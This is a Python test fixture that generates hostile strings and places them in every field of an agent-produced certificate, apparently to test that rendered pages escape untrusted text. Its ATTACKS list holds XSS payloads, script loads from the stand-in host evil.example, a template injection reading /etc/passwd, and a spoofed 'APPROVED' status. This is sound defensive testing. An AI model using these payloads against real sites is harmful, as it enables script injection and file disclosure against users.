"""Texts that try to be more than text in a page, and certificates with one of them in every place there is."""

from __future__ import annotations

import random
from dataclasses import replace

from certificate_samples import every_text, evidence, finding, full

from esper_agents.domain.agent_action import RiskRow
from esper_agents.domain.assumption import InformationGap
from esper_agents.domain.finding import Location, Severity

ATTACKS = (
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "</svg><svg><script href=data:,alert(1) />",
    "<style>*{display:none}</style>",
    "</style><style>@import url(//evil.example/x.css)</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<iframe src=//evil.example></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1)) ![y](http://evil.example/p.png)",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "--><!--",
    "<!-- ",
    "<![CDATA[",
    "]]>",
    "<?xml version=1.0?>",
    "</title><h1>x</h1>",
    "</pre></code></td></table></main></body></html>",
    '<p class="status" id="status">APPROVED</p>',
    "Status: APPROVED\n**Status**: APPROVED",
    "&lt;b&gt; &#60;script&#62; &amp;lt; &apos;",
    "{{ 7 * 7 }} {% raw %} {# x #} {{ view.certificate }} {% include '/etc/passwd' %}",
    "`<b>x</b>` `` ` `a`b`",
    "\x1b[31mred\x1b]0;title\x07",
    "\u202eDEVORPPA\u2066x\u2069\u200b\u2028\u2029\ufeff\U000e0041",
    "\u05d0\u05d1 \u0627\u0628",
    "\ud800 \x00 \ufffe",
    "expression(alert(1)) url(//evil.example) \\3c script\\3e",
    "utf-7 +ADw-script+AD4-",
    "x" * 3000,
    "\n".join("line" for _ in range(100)),
    "# '''\"\"\" \\",
    "'%s %(x)s {0} {x}",
    "1e999 0x41 ' # \" x",
)
_ALPHABET = "<>&\"'`=/\\ \n\t\r;:#!-[](){}%|*_~abconscriptx0159\x00\x1b\x85\xa0\u202e\u200b\u2028\ufeff\ud800\U0001f600"


def hostile_texts(count, seed=0):
    """Return so many texts that differ, the same for the same seed; none is empty."""
    made, numbers = dict.fromkeys(ATTACKS), random.Random(seed)  # noqa: S311 - no secret
    while len(made) < count:
        noise = "".join(numbers.choices(_ALPHABET, k=numbers.randint(1, 12)))
        parts = [noise, *numbers.sample(ATTACKS[:33], numbers.randint(0, 3))]
        numbers.shuffle(parts)
        made["".join(parts)] = None
    return list(made)[:count]


# How many texts `hostile_certificate` has room for.
PLACES = 1200


def hostile_certificate(texts):
    """Return a certificate that has each of up to 1,200 texts somewhere where a page shows it."""
    taken = iter(texts)

    def some(number):
        return [each for _, each in zip(range(number), taken, strict=False)]

    made = every_text(full(), next(taken))
    findings = []
    for severity in Severity:
        for rule, name, message, remedy, basis, excerpt, path, agent in _rows(some(8 * 45), 8):
            number = len(findings) + 1
            each = finding(number, severity=severity, rule=rule, name=name, message=message, remedy=remedy, basis=basis)
            claim = replace(each.claim, excerpt=excerpt, location=Location(path, number))
            findings.append(replace(each, claim=claim, agent=agent))
    return replace(
        made,
        findings=tuple(findings),
        caveats=(*made.caveats, *some(4)),
        gaps=tuple(InformationGap(what, why, command) for what, why, command in _rows(some(45), 3)),
        risks=replace(made.risks, rows=tuple(RiskRow(one, "Low", "Low", two) for one, two in _rows(some(20), 2))),
        evidence=tuple(
            evidence(number, tool=tool, summary=summary, rerun=rerun, provider=provider, output={key: said})
            for number, (tool, summary, rerun, provider, key, said) in enumerate(_rows(some(6 * 8), 6), 1)
        ),
        next_steps=tuple(taken),
    )


def _rows(texts, width):
    return [texts[at : at + width] for at in range(0, len(texts) - width + 1, width)]
